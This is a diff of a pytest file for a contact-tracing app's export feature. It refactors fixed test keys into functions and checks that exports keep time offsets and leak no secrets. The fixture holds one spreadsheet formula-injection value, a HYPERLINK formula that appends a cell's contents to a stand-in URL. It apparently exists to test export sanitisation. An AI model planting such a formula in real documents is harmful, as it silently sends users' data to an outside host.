@@ -52,35 +52,45 @@ from tests.test_files import full_disk
 
 TOKEN: Final = "eyJ-a-token-of-a-key-server"
 PASSPHRASE: Final = "correct horse battery staple"
-START_S: Final = today_s() - DAY_S
-OWN: Final = [
-    DailyKey(
-        name, bytes(range(n, n + PROTOCOLS[name].key_length)), START_S, START_S + DAY_S, PROTOCOLS[name].slots_per_day
-    )
-    for n, name in ((1, "gaen"), (60, "bluezone"))
-]
-THEIRS: Final = DailyKey("gaen", bytes(range(100, 116)), START_S, START_S + DAY_S, 144)
 FORMULA: Final = '=HYPERLINK("http://a.example/?x="&A1)'
 formats = pytest.mark.parametrize("name", FORMATS)
+
+
+def yesterday_s() -> int:
+    return today_s() - DAY_S
+
+
+def key_of_yesterday(protocol: str, first_byte: int) -> DailyKey:
+    known, start_s = PROTOCOLS[protocol], yesterday_s()
+    data = bytes(range(first_byte, first_byte + known.key_length))
+    return DailyKey(protocol, data, start_s, start_s + DAY_S, known.slots_per_day)
+
+
+def own_keys() -> list[DailyKey]:
+    return [key_of_yesterday("gaen", 1), key_of_yesterday("bluezone", 60)]
+
+
+def their_key() -> DailyKey:
+    return key_of_yesterday("gaen", 100)
 
 
 @pytest.fixture
 def program(program: Program) -> Program:
     """A device that knows something of everything."""
-    now_s = int(time.time())
-    minutes = [ReceivedMinute((START_S + 36_000) // MINUTE_S + n, 40.5 + n / 10, 4, {13: 4}) for n in range(20)]
-    key = received_key("ab" * 32, ReportType.CONFIRMED_TEST, 0, START_S, minutes)
+    now_s, start_s = int(time.time()), yesterday_s()
+    minutes = [ReceivedMinute((start_s + 36_000) // MINUTE_S + n, 40.5 + n / 10, 4, {13: 4}) for n in range(20)]
+    key = received_key("ab" * 32, ReportType.CONFIRMED_TEST, 0, start_s, minutes)
     with Store(program.state_dir) as store:
-        receive(store, THEIRS)
+        receive(store, their_key())
         with store.transaction():
-            for own in OWN:
-                store.keys.add(own, last_slot_s=START_S, exportable=True, closed=True)
+            for own in own_keys():
+                store.keys.add(own, last_slot_s=start_s, exportable=True, closed=True)
             store.tokens.put("https://keys.example", TokenKind.REVISION, TOKEN, now_s)
             store.exposures.add(key)
-            store.diary.add(date.fromtimestamp(START_S), FORMULA, now_s)  # noqa: DTZ012
-            store.diary.add(date.fromtimestamp(START_S), 'bữa trưa, "An"', now_s)  # noqa: DTZ012
+            store.diary.add(date.fromtimestamp(start_s), FORMULA, now_s)  # noqa: DTZ012
+            store.diary.add(date.fromtimestamp(start_s), 'bữa trưa, "An"', now_s)  # noqa: DTZ012
             store.notices.add(Notice("title", "two\nlines"), now_s)
-            store.listening.begin(START_S, "active", utc_offset_s=7 * 3600)
+            store.listening.begin(start_s, "active", utc_offset_s=7 * 3600)
             store.listening.extend(now_s - 10)
             store.sources.record(SourceRecord("https://keys.example/", now_s, now_s, notes={"etag": "kept"}))
             store.sources.record_file(KeyFileRecord("https://keys.example/", "1.zip", now_s, "cd" * 32, None, now_s))
@@ -204,7 +214,7 @@ def test_times_keep_the_offset_that_the_owner_had(program: Program, name: str) -
     """Ten hours after midnight UTC is five in the afternoon in Vietnam."""
     row = read(exported(program, name), name)["contact_minutes"][0]
     at = row["time"] if isinstance(row["time"], datetime) else datetime.fromisoformat(row["time"])
-    assert at.timestamp() == START_S + 10 * 3600
+    assert at.timestamp() == yesterday_s() + 10 * 3600
     if name == "sqlite":
         assert row["time"].endswith("T17:00:00+07:00")
     if name == "csv":
@@ -221,8 +231,9 @@ def test_no_secret_leaves_the_device(program: Program, name: str, encrypted: boo
     with Store(program.state_dir) as store:
         rows = store._db.execute("SELECT data FROM daily_key").fetchall()
         digests = [row[0] for row in store._db.execute("SELECT key_digest FROM own_key_digest")]
-    secrets = [key.data for key in OWN] + [row[0] for row in rows] + [bytes.fromhex(digest) for digest in digests]
-    secrets += [*identifiers(OWN), *identifiers([THEIRS]), THEIRS.data, TOKEN.encode(), PASSPHRASE.encode()]
+    own, theirs = own_keys(), their_key()
+    secrets = [key.data for key in own] + [row[0] for row in rows] + [bytes.fromhex(digest) for digest in digests]
+    secrets += [*identifiers(own), *identifiers([theirs]), theirs.data, TOKEN.encode(), PASSPHRASE.encode()]
     data = everything(exported(program, name))
     hits = [secret for secret in secrets for spelling in spellings(secret) if spelling in data]
     assert hits == []
@@ -232,7 +243,7 @@ def test_no_secret_leaves_the_device(program: Program, name: str, encrypted: boo
 
 
 def test_a_secret_would_be_found() -> None:
-    secret = OWN[0].data
+    secret = own_keys()[0].data
     for text in (secret, secret.hex().encode(), *(base64.b64encode(b"x" * n + secret + b"y") for n in range(3))):
         assert any(spelling in b"a" + text + b"b" for spelling in spellings(secret))
 
